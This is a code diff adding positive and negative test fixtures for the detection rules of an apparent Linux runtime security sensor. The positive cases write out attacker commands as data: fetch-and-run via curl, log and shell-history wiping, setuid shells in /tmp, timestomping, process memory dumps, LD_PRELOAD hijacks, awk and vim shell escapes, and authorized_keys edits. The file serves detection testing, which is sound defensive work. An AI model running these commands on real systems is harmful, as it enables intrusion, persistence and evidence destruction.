@@ -94,6 +94,14 @@ fn with_script(mut e: ExecEvent, language: &'static str, malicious: bool) -> Exe
     e
 }
 
+fn script_at(e: ExecEvent, path: &str) -> ExecEvent {
+    let mut e = with_script(e, "shell", false);
+    if let Some(s) = e.script.as_mut() {
+        s.script.path = Some(path.into());
+    }
+    e
+}
+
 pub(super) fn socket() -> Stdio {
     Stdio::Socket { inode: 9, peer: Some(REMOTE.into()) }
 }
@@ -181,6 +189,34 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
         ("malicious_script_executed", with_script(ev("/bin/sh", &["sh", "-c", "curl x|sh; history -c"]), "shell", true)),
         ("malicious_python_executed", with_script(ev("/usr/bin/python3", &["python3", "-c", "exec(...)"]), "python", true)),
+        ("script_from_temp_dir", script_at(ev("/usr/bin/dash", &["/bin/sh", "/tmp/x.sh"]), "/tmp/x.sh")),
+        ("script_from_temp_dir", script_at(ev("/usr/bin/python3.11", &["python3", "-u", "/var/tmp/.c/p.py"]), "/var/tmp/.c/p.py")),
+        ("script_from_temp_dir", script_at(ev("/usr/bin/bash", &["bash", "/usr/share/.x/run"]), "/usr/share/.x/run")),
+        ("ld_preload_from_temp_dir", env(ev("/usr/bin/id", &["id"]), "LD_PRELOAD", "/tmp/x.so")),
+        ("ld_preload_from_temp_dir", env(ev("/usr/bin/ls", &["ls"]), "LD_PRELOAD", "/usr/lib/libjemalloc.so.2 ./hook.so")),
+        ("ld_preload_from_temp_dir", env(ev("/bin/true", &["true"]), "LD_AUDIT", "/dev/shm/.a/audit.so")),
+        ("shell_history_cleared", ev("/bin/rm", &["rm", "-f", "/root/.bash_history"])),
+        ("shell_history_cleared", ev("/bin/ln", &["ln", "-sf", "/dev/null", "/home/app/.bash_history"])),
+        ("shell_history_cleared", ev("/bin/bash", &["bash", "-c", "unset HISTFILE; id"])),
+        ("shell_history_cleared", ev("/bin/sh", &["sh", "-c", "history -c"])),
+        ("log_files_removed", ev("/bin/rm", &["rm", "-rf", "/var/log/auth.log"])),
+        ("log_files_removed", ev("/bin/rm", &["rm", "-rf", "/var/log"])),
+        ("log_files_removed", ev("/usr/bin/truncate", &["truncate", "-s", "0", "/var/log/syslog"])),
+        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "cat /dev/null > /var/log/wtmp"])),
+        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "> /var/log/lastlog; id"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "u+s", "/tmp/sh"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "4755", "/tmp/sh"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "g+s", "/tmp/d"])),
+        ("setuid_bit_set", ev("/usr/bin/install", &["install", "-m", "6755", "x", "/usr/local/bin/x"])),
+        ("timestomp", ev("/usr/bin/touch", &["touch", "-r", "/bin/ls", "/tmp/x"])),
+        ("timestomp", ev("/usr/bin/touch", &["touch", "-t", "202001010000", "/tmp/x"])),
+        ("timestomp", ev("/usr/bin/touch", &["touch", "--date=2020-01-01", "/tmp/x"])),
+        ("proc_memory_read", ev("/bin/dd", &["dd", "if=/proc/1/mem", "bs=1", "skip=4096", "count=64"])),
+        ("proc_memory_read", ev("/usr/bin/python3", &["python3", "dump.py", "/proc/42/mem"])),
+        ("proc_memory_read", ev("/usr/bin/gdb", &["gdb", "-p", "1", "-batch", "-ex", "gcore"])),
+        ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/mawk", &["awk", "BEGIN {system(\"/bin/sh\")}"])),
+        ("shell_escape_from_program", parent(ev("/bin/bash", &["bash"]), "/usr/bin/vim.basic", &["vim", "-c", ":!/bin/bash"])),
+        ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/perl", &["/usr/bin/perl", "/usr/bin/cpan"])),
         ("malicious_url_observed", {
             let mut e = ev("/usr/bin/curl", &["curl", "http://203.0.113.66/payload.sh"]);
             e.indicators = vec!["http://203.0.113.66/payload.sh".into()];
@@ -276,6 +312,51 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("added_malicious_binary", verdict(ev("/tmp/tool", &["tool"]), Provenance::Added)),
         ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
         ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
+        (
+            "script_from_temp_dir",
+            script_at(ev("/usr/bin/python3", &["python3", "app.py", "--out", "/tmp/x.json"]), "/app/app.py"),
+        ),
+        (
+            "script_from_temp_dir",
+            script_at(ev("/bin/sh", &["sh", "/app/entrypoint.sh"]), "/app/entrypoint.sh"),
+        ),
+        (
+            "script_from_temp_dir",
+            script_at(ev("/bin/bash", &["bash", "/root/.nvm/nvm.sh"]), "/root/.nvm/nvm.sh"),
+        ),
+        (
+            "ld_preload_from_temp_dir",
+            env(
+                ev("/usr/bin/python3", &["python3"]),
+                "LD_PRELOAD",
+                "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
+            ),
+        ),
+        (
+            "ld_preload_from_temp_dir",
+            env(ev("/usr/bin/python3", &["python3"]), "LD_LIBRARY_PATH", "/tmp/lib"),
+        ),
+        ("shell_history_cleared", ev("/bin/rm", &["rm", "-f", "/tmp/history.json"])),
+        ("shell_history_cleared", ev("/bin/sh", &["sh", "-c", "history | tail -5"])),
+        ("log_files_removed", ev("/bin/rm", &["rm", "-f", "/app/logs/old.log"])),
+        ("log_files_removed", ev("/bin/rm", &["rm", "-f", "/var/log/myapp/app.log.3"])),
+        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "exec app > /var/log/app.log 2>&1"])),
+        ("log_files_removed", ev("/bin/sh", &["sh", "-c", "app &>/var/log/app.log"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "755", "/app/run.sh"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "1777", "/tmp/shared"])),
+        ("setuid_bit_set", ev("/bin/chmod", &["chmod", "-R", "u+rwX,go+rX", "/app"])),
+        ("timestomp", ev("/usr/bin/touch", &["touch", "/tmp/healthy"])),
+        ("timestomp", ev("/usr/bin/touch", &["touch", "-c", "-a", "/app/ready"])),
+        ("proc_memory_read", ev("/bin/cat", &["cat", "/proc/meminfo"])),
+        ("proc_memory_read", ev("/bin/cat", &["cat", "/proc/1/status"])),
+        (
+            "shell_escape_from_program",
+            parent(ev("/bin/sh", &["sh", "-c", "gzip -d"]), "/bin/tar", &["tar", "xzf", "a.tgz"]),
+        ),
+        (
+            "shell_escape_from_program",
+            parent(ev("/usr/bin/sort", &["sort"]), "/usr/bin/mawk", &["awk", "{print | \"sort\"}"]),
+        ),
         ("malicious_url_observed", ev("/usr/bin/curl", &["curl", "https://example.com/"])),
         (
             "malicious_script_executed",
@@ -342,6 +423,10 @@ fn file_positives() -> Vec<(&'static str, FileEvent)> {
         ("file_root_certificate_installed", fe("/etc/ssl/certs/ca-certificates.crt", FileOp::Modify, "ca")),
         ("file_sensor_tampering", fe("/usr/local/bin/runwarden", FileOp::Rename, "sensor")),
         ("file_sensor_tampering", fe("/etc/runwarden/policies/a.yaml", FileOp::Delete, "sensor")),
+        ("file_shell_profile_modified", fe("/etc/profile.d/zz.sh", FileOp::Create, "profile")),
+        ("file_shell_profile_modified", by(fe("/root/.bashrc", FileOp::Modify, "profile"), "/bin/sh")),
+        ("file_authorized_keys_modified", fe("/root/.ssh/authorized_keys", FileOp::Modify, "secret")),
+        ("file_authorized_keys_modified", fe("/home/app/.ssh/authorized_keys2", FileOp::Create, "secret")),
     ]
 }
 
@@ -367,6 +452,10 @@ fn file_negatives() -> Vec<(&'static str, FileEvent)> {
         ("file_root_certificate_installed", fe("/app/certs/server.crt", FileOp::Create, "")),
         ("file_sensor_tampering", fe("/usr/local/bin/app", FileOp::Create, "executables")),
         ("file_sensor_tampering", fe("/tmp/app.log", FileOp::Modify, "")),
+        ("file_shell_profile_modified", fe("/etc/profile", FileOp::Open, "profile")),
+        ("file_shell_profile_modified", fe("/home/app/notes.txt", FileOp::Modify, "")),
+        ("file_authorized_keys_modified", fe("/root/.ssh/authorized_keys", FileOp::Open, "secret")),
+        ("file_authorized_keys_modified", fe("/etc/shadow", FileOp::Modify, "secret")),
     ]
 }
 
